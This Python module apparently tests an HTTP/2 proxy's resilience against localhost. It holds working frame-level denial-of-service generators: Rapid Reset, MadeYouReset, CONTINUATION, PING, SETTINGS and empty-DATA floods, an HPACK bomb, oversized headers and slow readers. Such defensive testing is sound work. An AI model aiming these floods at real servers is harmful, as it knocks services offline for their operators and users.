"""What hostile HTTP/2 clients do, as bytes: each attack goes on until the proxy ends the connection, or
until it has sent so much that nobody should have taken it."""

import contextlib
import select
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS = 1, 4
CALM = 11  # ENHANCE_YOUR_CALM
BLOCK = 1 << 16
PATIENCE = 15


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def get(path=b"/", method=b"\x82"):
    """A header block: GET, http, path, authority a."""
    return method + b"\x86\x04" + bytes([len(path)]) + path + b"\x41\x01a"


POST = b"\x83"
OPENING = PREFACE + frame(SETTINGS, 0, 0)


class Attacker:
    """One connection. `ended`: the proxy closed it; `goaway`: the code it gave."""

    def __init__(self, port, opening=OPENING):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
        self.sock.setblocking(False)
        self.ended, self.goaway, self.sent, self.buffer = False, None, 0, b""
        self.statuses = 0
        self.send(opening)

    def receive(self, wait=0.0):
        if self.ended or not select.select([self.sock], [], [], wait)[0]:
            return
        try:
            data = self.sock.recv(BLOCK)
        except BlockingIOError:
            return
        except ConnectionError:
            data = b""
        self.ended = not data
        self.buffer += data
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                return
            if self.buffer[3] == GOAWAY:
                self.goaway = int.from_bytes(self.buffer[13:17], "big")
            self.statuses += self.buffer[3] == HEADERS
            self.buffer = self.buffer[9 + size:]

    def send(self, data, reads=True):
        """All of it, or until the connection is over or takes nothing for a second."""
        view = memoryview(data)
        while len(view) and not self.ended:
            if not select.select([], [self.sock], [], 1)[1]:
                return False
            try:
                count = self.sock.send(view)
            except BlockingIOError:
                continue
            except ConnectionError:
                self.receive()
                self.ended = True
                return False
            view, self.sent = view[count:], self.sent + count
            if reads:
                self.receive()
        return not self.ended

    def flood(self, pieces, reads=True):
        """Sends until it is over. True when the proxy ended it."""
        deadline, block = time.monotonic() + PATIENCE, b""
        for piece in pieces:
            block += piece
            if len(block) < BLOCK:
                continue
            if not self.send(block, reads) or time.monotonic() > deadline:
                break
            block = b""
        self.send(block, reads)
        return self.over()

    def over(self, within=PATIENCE):
        deadline = time.monotonic() + within
        while not self.ended and time.monotonic() < deadline:
            self.receive(0.2)
        self.sock.close()
        return self.ended


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset(count=20_000):
    """CVE-2023-44487."""
    for stream in streams(count):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, get(b"/ordinary"))
        yield frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def made_to_reset(count=20_000):
    """CVE-2025-8671: the proxy itself is made to reset, by a window of nothing."""
    for stream in streams(count):
        yield frame(HEADERS, END_HEADERS, stream, get(b"/ordinary", POST))
        yield frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")


def continuations(payload, count):
    """CVE-2024-27316: a header block that never ends."""
    yield frame(HEADERS, END_STREAM, 1, get())
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, payload)


def empty_data(count=200_000):
    """CVE-2019-9518."""
    yield frame(HEADERS, END_HEADERS, 1, get(method=POST))
    for _ in range(count):
        yield frame(DATA, 0, 1)


def repeated(piece, count):
    for _ in range(count):
        yield piece


def priorities(count=100_000):
    for number in range(count):
        yield frame(PRIORITY, 0, 1 + 2 * (number % 50_000), b"\0\0\0\0\x10")


def hpack_bomb(requests=200):
    """CVE-2016-1544's like: an entry of 4,000 bytes, told again and again by one byte each."""
    value = b"v" * 4000
    entry = b"\x40\x01x" + b"\x7f" + length(len(value) - 127) + value
    for number, stream in enumerate(streams(requests)):
        block = get() + (entry if number == 0 else b"") + b"\xbe" * 10_000
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def length(rest):
    """The bytes of HPACK's integer behind a full prefix."""
    out = b""
    while rest >= 128:
        out, rest = out + bytes([rest % 128 | 128]), rest >> 7
    return out + bytes([rest])


def megabyte_head():
    """One request with a megabyte of fields."""
    value = b"\x00\x04x-ab\x7f" + length(10_000 - 127) + b"v" * 10_000
    block = get() + value * 105
    pieces = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
    yield frame(HEADERS, END_STREAM, 1, pieces[0])
    for piece in pieces[1:-1]:
        yield frame(CONTINUATION, 0, 1, piece)
    yield frame(CONTINUATION, END_HEADERS, 1, pieces[-1])


FLOODS = {
    "rapid reset": (rapid_reset, True),
    "made to reset": (made_to_reset, True),
    "CONTINUATION of 16 KB": (lambda: continuations(b"\x00\x01a\x7f\x80\x7c" + b"b" * 15_999, 1000), True),
    "CONTINUATION of nothing": (lambda: continuations(b"", 200_000), True),
    "SETTINGS": (lambda: repeated(frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0"), 100_000), False),
    "PING": (lambda: repeated(frame(PING, 0, 0, b"12345678"), 200_000), False),
    "DATA of nothing": (empty_data, True),
    "PRIORITY": (priorities, True),
    "WINDOW_UPDATE": (lambda: repeated(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), 200_000), True),
    "HPACK bomb": (hpack_bomb, True),
    "a head of a megabyte": (megabyte_head, True),
}


def flooded(port, name, connections=10):
    """How many of the connections the proxy ended."""
    pieces, reads = FLOODS[name]
    return sum(Attacker(port).flood(pieces(), reads) for _ in range(connections))


class SlowReaders:
    """Connections with requests whose responses are never read: their windows are shut."""

    def __init__(self, port, count, path):
        shut = PREFACE + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
        self.all = [Attacker(port, shut) for _ in range(count)]
        for one in self.all:
            one.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, get(path))
                              for stream in streams(50)))

    def close(self):
        for one in self.all:
            with contextlib.suppress(OSError):
                one.sock.close()
